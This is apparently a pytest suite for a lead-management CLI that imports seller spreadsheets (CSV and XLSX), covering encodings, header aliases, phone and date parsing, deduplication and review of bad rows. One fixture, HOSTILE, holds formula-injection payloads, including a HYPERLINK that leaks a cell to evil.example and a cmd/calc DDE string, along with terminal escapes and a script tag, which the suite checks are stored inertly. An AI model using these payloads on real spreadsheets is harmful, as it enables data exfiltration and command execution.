"""``leadtui import leads.csv`` / ``leads.xlsx``: a seller moving from a spreadsheet.

Every test writes its sheet (CSV bytes as Excel and Google Sheets write them; .xlsx with
openpyxl) and runs the real command against a real SQLite store (PostgreSQL for one test),
then looks at what the seller would: the summary, the lead table, the review queue.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner, Result
from helpers import FIXTURES
from hypothesis import given, settings
from hypothesis import strategies as st

from leadtui import parser
from leadtui.cli import main
from leadtui.formats import spreadsheet
from leadtui.store import Lead, LeadQuery, Store

HEADERS = ["Customer Name", "Mobile No.", "E-mail", "Firm", "City", "State", "Product"]
HEADERS += ["Requirement", "Qty", "Enquiry Date", "Lead Status"]
RAVI = ["RAVI KUMAR", "98765 43210", "Ravi@Example.in", "Ravi Traders", "Pune", "MH"]
RAVI += ["Fly Ash Bricks", "Need 5000 pcs\nurgent", "5000 Piece", "05/03/2026 4:12 PM", "Hot"]
SITA = ["Sita Devi", "+91-91234-56789", "", "Devi Builders", "Indore", "Madhya Pradesh"]
SITA += ["Red Clay Bricks", "Best rate?", "2,000", "2026-03-06 09:05", "Cold"]


def run(*args: str, db: str) -> Result:
    return CliRunner().invoke(main, ["--db", db, *args], catch_exceptions=False)


def write_csv(
    path: Path,
    rows: list[list[str]],
    *,
    encoding: str = "utf-8",
    delimiter: str = ",",
    first_line: str = "",
) -> Path:
    text = io.StringIO()
    csv.writer(text, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    path.write_bytes((first_line + text.getvalue()).encode(encoding))
    return path


def leads(db: str) -> list[Lead]:
    with Store.open(db) as store:
        return sorted(store.list_leads(LeadQuery(limit=1000)), key=lambda lead: lead.id)


def by_name(db: str) -> dict[str | None, Lead]:
    return {lead.name: lead for lead in leads(db)}


# --------------------------------------------------------------------------- CSV


def test_a_sheet_with_the_usual_indian_headers_becomes_leads(tmp_path: Path) -> None:
    db = str(tmp_path / "leads.db")
    sheet = write_csv(tmp_path / "leads.csv", [HEADERS, RAVI, SITA])
    result = run("import", str(sheet), db=db)
    assert result.exit_code == 0, result.output
    assert "leads.csv: 2 rows read, 2 new leads, 0 already known, 0 failed" in result.output
    ravi, sita = by_name(db)["Ravi Kumar"], by_name(db)["Sita Devi"]
    assert (ravi.phone, ravi.email, ravi.company, ravi.city) == (
        "+919876543210",
        "ravi@example.in",
        "Ravi Traders",
        "Pune",
    )
    assert (ravi.state, ravi.product, ravi.quantity, ravi.unit) == (
        "Maharashtra",
        "Fly Ash Bricks",
        "5000",
        "Piece",
    )
    assert ravi.message == "Need 5000 pcs\nurgent"
    assert ravi.received_at == "2026-03-05T16:12:00+05:30"  # the sheet's time, read as IST
    assert ravi.specs == {"Lead Status": "Hot"}  # a column leadtui has no field for is kept
    assert (sita.phone, sita.quantity, sita.received_at) == (
        "+919123456789",
        "2000",
        "2026-03-06T09:05:00+05:30",
    )


def test_header_variants_are_read_whatever_their_case_and_spacing(tmp_path: Path) -> None:
    db = str(tmp_path / "leads.db")
    headers = ["BUYER", "contact_no", "Email ID", "company name", "ITEM", "Remarks", "qty", "Date"]
    row = ["Anil Shah", "9822012345", "anil@shah.co", "Shah & Sons", "Tiles", "Call after 5"]
    sheet = write_csv(tmp_path / "b.csv", [headers, [*row, "40", "2026-03-07"]])
    assert run("import", str(sheet), db=db).exit_code == 0
    [anil] = leads(db)
    assert (anil.name, anil.phone, anil.email, anil.company) == (
        "Anil Shah",
        "+919822012345",
        "anil@shah.co",
        "Shah & Sons",
    )
    assert (anil.product, anil.message, anil.quantity) == ("Tiles", "Call after 5", "40")
    assert anil.received_at == "2026-03-07T00:00:00+05:30"


def test_a_row_without_a_date_takes_the_time_of_the_import(tmp_path: Path) -> None:
    db = str(tmp_path / "leads.db")
    before = datetime.now().astimezone()
    sheet = write_csv(tmp_path / "l.csv", [["Name", "Phone"], ["Meena", "9811122233"]])
    assert run("import", str(sheet), db=db).exit_code == 0
    [meena] = leads(db)
    received = datetime.fromisoformat(meena.received_at)
    assert received.isoformat().endswith("+05:30")  # IST, as the seller reads it
    assert received.replace(microsecond=0) >= before.replace(microsecond=0)


def test_map_names_the_columns_the_aliases_do_not_know(tmp_path: Path) -> None:
    db = str(tmp_path / "leads.db")
    sheet = write_csv(
        tmp_path / "m.csv", [["Customer", "Cell", "Pin"], ["Kiran Rao", "9.87654321E+09", "411045"]]
    )
    unread = run("import", str(sheet), db=db)
    assert unread.exit_code == 2
    assert "no column is read as a phone or email (columns: Customer, Cell, Pin)" in unread.output
    assert "--map" in unread.output
    assert leads(db) == []

    result = run("import", "--map", "customer = name, CELL=phone", str(sheet), db=db)
    assert result.exit_code == 0, result.output
    [kiran] = leads(db)
    assert (kiran.name, kiran.phone, kiran.pincode) == ("Kiran Rao", "+919876543210", "411045")


@pytest.mark.parametrize(
    ("option", "says"),
    [
        ("Cell=mobile", "'mobile' is not a lead field; use one of name"),
        ("Cell", "is not COLUMN=field"),
        ("Fax=phone,Mobile=phone", "--map names a column no sheet has: fax"),
    ],
)
def test_a_wrong_map_is_one_line_and_imports_nothing(
    tmp_path: Path, option: str, says: str
) -> None:
    db = str(tmp_path / "leads.db")
    sheet = write_csv(tmp_path / "m.csv", [["Name", "Mobile"], ["Kiran", "9876543210"]])
    result = run("import", "--map", option, str(sheet), db=db)
    assert result.exit_code == 2
    assert says in result.output
    assert len(result.output.strip().splitlines()) == 1
    assert leads(db) == []


@pytest.mark.parametrize(
    ("encoding", "delimiter", "first_line"),
    [
        ("utf-8-sig", ",", ""),  # Excel's "CSV UTF-8"
        ("utf-8", ";", ""),  # a European locale's Excel
        ("cp1252", ";", "sep=;\r\n"),  # Excel's plain "CSV" on Windows, with its hint line
        ("utf-16", "\t", ""),  # Excel's "Unicode Text": UTF-16 with a BOM, tabs
        ("utf-16-le", "\t", ""),  # the same without a BOM
    ],
)
def test_excel_encodings_and_delimiters(
    tmp_path: Path, encoding: str, delimiter: str, first_line: str
) -> None:
    db = str(tmp_path / "leads.db")
    rows = [
        ["Name", "Mobile", "City", "Requirement"],
        ["José Müller", "9876543210", "Pune", "Tiles, 2x2; glossy"],
        ["Noël D’Souza", "9123456789", "Goa", "Café tiles"],
    ]
    sheet = write_csv(
        tmp_path / "enc.csv", rows, encoding=encoding, delimiter=delimiter, first_line=first_line
    )
    result = run("import", str(sheet), db=db)
    assert result.exit_code == 0, result.output
    assert "2 rows read, 2 new leads" in result.output
    found = by_name(db)
    assert found["José Müller"].message == "Tiles, 2x2; glossy"
    assert found["Noël D’Souza"].city == "Goa"


def test_phones_excel_turned_into_numbers_are_recovered(tmp_path: Path) -> None:
    db = str(tmp_path / "leads.db")
    rows = [
        ["Name", "Mobile", "Email"],
        ["Sci", "9.87654321E+09", ""],
        ["Point", "9812345670.0", ""],
        ["No plus", "919822012345", ""],
        ["Text formula", '="09811122233"', ""],
        ["Two numbers", "9833344455/9844455566", ""],
        ["Rounded", "9.88E+09", "rounded@x.in"],  # digits lost: not guessed, the cell is kept
    ]
    assert run("import", str(write_csv(tmp_path / "p.csv", rows)), db=db).exit_code == 0
    found = by_name(db)
    assert found["Sci"].phone == "+919876543210"
    assert found["Point"].phone == "+919812345670"
    assert found["No plus"].phone == "+919822012345"
    assert found["Text formula"].phone == "+919811122233"
    assert (found["Two numbers"].phone, found["Two numbers"].phone_alt) == (
        "+919833344455",
        "+919844455566",
    )
    assert found["Rounded"].phone is None
    assert found["Rounded"].specs == {"Mobile": "9.88E+09"}


def test_importing_the_same_sheet_again_adds_no_lead(tmp_path: Path) -> None:
    db = str(tmp_path / "leads.db")
    sheet = write_csv(tmp_path / "leads.csv", [HEADERS, RAVI, SITA])
    assert run("import", str(sheet), db=db).exit_code == 0
    again = run("import", str(sheet), db=db)
    assert again.exit_code == 0
    assert "leads.csv: 2 rows read, 0 new leads, 2 already known, 0 failed" in again.output
    # Exported again under another name, with a new enquiry above the old ones and a status
    # typed into one of them: only the new enquiry is a new lead.
    newer = ["Gopal", "9800011122", "", "", "Surat", "", "Tiles", "", "", "07/03/2026", ""]
    export = write_csv(tmp_path / "leads (2).csv", [HEADERS, newer, [*RAVI[:-1], "Won"], SITA])
    third = run("import", str(export), db=db)
    assert "3 rows read, 1 new lead, 2 already known, 0 failed" in third.output
    assert sorted(str(lead.name) for lead in leads(db)) == ["Gopal", "Ravi Kumar", "Sita Devi"]


def test_a_row_from_a_known_buyer_links_to_the_same_buyer(tmp_path: Path) -> None:
    db = str(tmp_path / "leads.db")
    email = FIXTURES / "samples/email/07-buylead-one-line-specs.eml"  # Deepak, +91 90098 00088
    assert run("import", str(email), db=db).exit_code == 0
    rows = [["Party Name", "Contact", "Item"], ["Deepak Sharma", "090098 00088", "Roof Tiles"]]
    assert run("import", str(write_csv(tmp_path / "s.csv", rows)), db=db).exit_code == 0
    first, second = leads(db)
    assert second.phone == first.phone == "+919009800088"
    assert (first.enquiry_no, second.enquiry_no) == (1, 2)  # "2nd enquiry", not a stranger
    with Store.open(db) as store:
        assert [lead.id for lead in store.buyer_history(second)] == [first.id]


def test_bad_rows_go_to_review_with_their_reason_while_the_rest_import(tmp_path: Path) -> None:
    db = str(tmp_path / "leads.db")
    rows = [
        ["Name", "Mobile", "Email", "Date"],
        ["Good One", "9876543210", "", "01/03/2026"],
        ["No Contact", "12345", "not-an-email", "02/03/2026"],
        ["", "", "", ""],
        ["Bad Date", "9123456789", "", "31/02/2026"],
        ["Good Two", "", "two@x.in", "03-03-2026 18:30"],
    ]
    result = run("import", str(write_csv(tmp_path / "leads.csv", rows)), db=db)
    assert result.exit_code == 1
    lines = result.output.splitlines()
    assert "leads.csv: 4 rows read, 2 new leads, 0 already known, 2 failed" in lines
    assert (
        "  leads.csv row 3: no phone or email to reach the buyer (Mobile '12345' is not a phone "
        "number; Email 'not-an-email' is not an email address)"
    ) in lines
    assert any(
        line.startswith("  leads.csv row 5: Date '31/02/2026' is not a date leadtui reads")
        for line in lines
    )
    assert "leads.csv: 1 blank row skipped" in lines
    assert sorted(str(lead.name) for lead in leads(db)) == ["Good One", "Good Two"]
    with Store.open(db) as store:
        review = store.review_items()
        assert len(review) == 2
        kept = [json.loads(store.raw_body(item.id) or b"")["spreadsheet"] for item in review]
    assert sorted(k["row"] for k in kept) == [3, 5]
    assert ["Mobile", "12345"] in next(k for k in kept if k["row"] == 3)["cells"]

    again = run("import", str(tmp_path / "leads.csv"), db=db)
    assert again.exit_code == 1  # still failing: said again, not hidden as a duplicate
    assert "  leads.csv row 5: still in the review queue: Date '31/02/2026'" in again.output
    review_screen = run("review", db=db)
    assert "leads.csv row 3: no phone or email" in review_screen.output


HOSTILE = {
    "Name": "[bold red]Boss[/] \x1b[31mKhan\x1b[0m",
    "Mobile": "+91 98765 43210",
    "Requirement": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "Company": "@SUM(1+1)*cmd|' /C calc'!A0",
    "City": "-2+3",
    "Product": "<script>alert(1)</script>",
}


def _check_hostile(db: str, output: str, name: str = "[bold red]Boss[/] [31mKhan[0m") -> None:
    [lead] = leads(db)
    assert lead.name == name  # markup kept as text, ESC removed
    assert lead.message == HOSTILE["Requirement"]  # a formula is text, never evaluated
    assert lead.company == HOSTILE["Company"]
    assert lead.city == "-2+3"
    assert lead.product == "<script>alert(1)</script>"
    assert "\x1b" not in output


def test_hostile_cells_in_a_csv_are_stored_as_text(tmp_path: Path) -> None:
    db = str(tmp_path / "leads.db")
    sheet = write_csv(tmp_path / "h.csv", [list(HOSTILE), list(HOSTILE.values())])
    result = run("import", str(sheet), db=db)
    assert result.exit_code == 0, result.output
    _check_hostile(db, result.output)


# --------------------------------------------------------------------------- XLSX


def _workbook(path: Path) -> Path:
    """A workbook as a seller keeps one: a title above the headers, a sheet per month, phones
    and dates as Excel cells, a hidden sheet and a summary sheet with no leads."""
    book = openpyxl.Workbook()
    march = book.active
    march.title = "March"
    march.append(["Enquiries, March 2026"])
    march.append([])
    march.append(["Customer Name", "Mobile", "Email", "Product", "Enquiry Date", "Time"])
    march.append(["Ravi", 9876543210, None, "Bricks", datetime(2026, 3, 5, 16, 12), None])
    march.append(["Sita", 919123456789, None, "Tiles", 46087, "10:30"])  # serial: 06/03/2026
    march.append(["Bad", 12345, None, "Tiles", datetime(2026, 3, 7), None])
    april = book.create_sheet("April")
    april.append(["Name", "Phone", "Remarks"])
    april.append(["Gopal", "09800011122", "Wants a call"])
    book.create_sheet("Old").sheet_state = "hidden"
    book["Old"].append(["Name", "Phone"])
    book["Old"].append(["Ghost", "9999999999"])
    summary = book.create_sheet("Summary")
    summary.append(["Month", "Leads"])
    summary.append(["March", 3])
    book.save(path)
    return path


def test_an_xlsx_workbook_imports_every_sheet_of_leads(tmp_path: Path) -> None:
    db = str(tmp_path / "leads.db")
    result = run("import", str(_workbook(tmp_path / "leads.xlsx")), db=db)
    assert result.exit_code == 1  # one bad row
    lines = result.output.splitlines()
    assert "leads.xlsx [March]: sheet 'Summary' skipped (no phone or email column)" in lines
    assert "leads.xlsx [March]: 3 rows read, 2 new leads, 0 already known, 1 failed" in lines
    assert "leads.xlsx [April]: 1 row read, 1 new lead, 0 already known, 0 failed" in lines
    assert any(line.startswith("  leads.xlsx [March] row 6: no phone or email") for line in lines)
    found = by_name(db)
    assert set(found) == {"Ravi", "Sita", "Gopal"}  # not the hidden sheet's Ghost
    assert (found["Ravi"].phone, found["Ravi"].received_at) == (
        "+919876543210",
        "2026-03-05T16:12:00+05:30",
    )
    assert (found["Sita"].phone, found["Sita"].received_at) == (
        "+919123456789",
        "2026-03-06T10:30:00+05:30",
    )
    assert (found["Gopal"].phone, found["Gopal"].message) == ("+919800011122", "Wants a call")

    again = run("import", str(tmp_path / "leads.xlsx"), db=db)
    assert "leads.xlsx [March]: 3 rows read, 0 new leads, 2 already known, 1 failed" in again.output
    assert len(leads(db)) == 3


def test_hostile_cells_in_an_xlsx_are_stored_as_text(tmp_path: Path) -> None:
    db = str(tmp_path / "leads.db")
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(list(HOSTILE))
    # XML cannot carry ESC (openpyxl refuses it; Excel writes _x001B_, read as text).
    sheet.append([v.replace("\x1b", "_x001B_") for v in HOSTILE.values()])
    for cell in sheet[2]:
        cell.data_type = "s"  # text that starts with "=", as Excel keeps a typed '=… cell
    book.save(tmp_path / "h.xlsx")
    result = run("import", str(tmp_path / "h.xlsx"), db=db)
    assert result.exit_code == 0, result.output
    _check_hostile(db, result.output, "[bold red]Boss[/] _x001B_[31mKhan_x001B_[0m")


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("old.xls", b"\xd0\xcf\x11\xe0", "Excel 97-2003 files cannot be read; save the sheet as"),
        ("broken.xlsx", b"PK\x03\x04 not really", "not an Excel .xlsx workbook"),
    ],
)
def test_a_file_that_is_no_sheet_is_one_line(
    tmp_path: Path, name: str, content: bytes, says: str
) -> None:
    (tmp_path / name).write_bytes(content)
    result = run("import", str(tmp_path / name), db=str(tmp_path / "l.db"))
    assert result.exit_code == 2
    assert says in result.output
    assert len(result.output.strip().splitlines()) == 1


# --------------------------------------------------------------------------- PostgreSQL


@pytest.mark.postgres
def test_a_sheet_into_the_team_database_replays_and_links(tmp_path: Path, pg_url: str) -> None:
    first = write_csv(tmp_path / "leads.csv", [HEADERS, RAVI, SITA])
    assert run("import", str(first), db=pg_url).exit_code == 0
    again = run("import", str(first), db=pg_url)
    assert "2 rows read, 0 new leads, 2 already known, 0 failed" in again.output
    later = write_csv(
        tmp_path / "later.csv", [["Name", "Mobile", "Item"], ["Ravi", "9876543210", "Tiles"]]
    )
    assert "1 new lead" in run("import", str(later), db=pg_url).output
    ravi_leads = [lead for lead in leads(pg_url) if lead.phone == "+919876543210"]
    assert sorted(lead.enquiry_no for lead in ravi_leads) == [1, 2]


# --------------------------------------------------------------------------- the format


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("05/03/2026", "2026-03-05T00:00:00+05:30"),
        ("5-3-2026 16:12", "2026-03-05T16:12:00+05:30"),
        ("05.03.26", "2026-03-05T00:00:00+05:30"),
        ("2026-03-05T10:30:00", "2026-03-05T10:30:00+05:30"),
        ("2026/03/05 10:30:15", "2026-03-05T10:30:15+05:30"),
        ("2026-03-05T05:00:00Z", "2026-03-05T05:00:00+00:00"),
        ("05-Mar-2026 10:30 AM", "2026-03-05T10:30:00+05:30"),
        ("12/03/2026 12:05 am", "2026-03-12T00:05:00+05:30"),
        (46086.5, "2026-03-05T12:00:00+05:30"),
        ("46086", "2026-03-05T00:00:00+05:30"),
        ("13/13/2026", None),
        ("12/31/2025", None),  # a US date is not guessed
        ("soon", None),
    ],
)
def test_sheet_dates(cell: object, expected: str | None) -> None:
    assert spreadsheet.sheet_time(cell) == expected


@settings(max_examples=200, deadline=None)
@given(
    cells=st.lists(
        st.tuples(
            st.sampled_from(["Name", "Mobile", "Email", "Date", "Time", "Qty", "X", ""]),
            st.one_of(st.text(max_size=30), st.integers(), st.floats(), st.none()),
        ),
        max_size=8,
    )
)
def test_no_row_makes_the_parser_raise(cells: list[tuple[str, object]]) -> None:
    body, _key = spreadsheet.row_item(
        file="f.csv",
        sheet=None,
        row=2,
        cells=cells,  # type: ignore[arg-type]
        mapping={},
        imported_at="2026-03-05T10:00:00+05:30",
    )
    [result] = parser.parse_json_bytes(body)
    assert result["kind"] in {"lead", "error"}
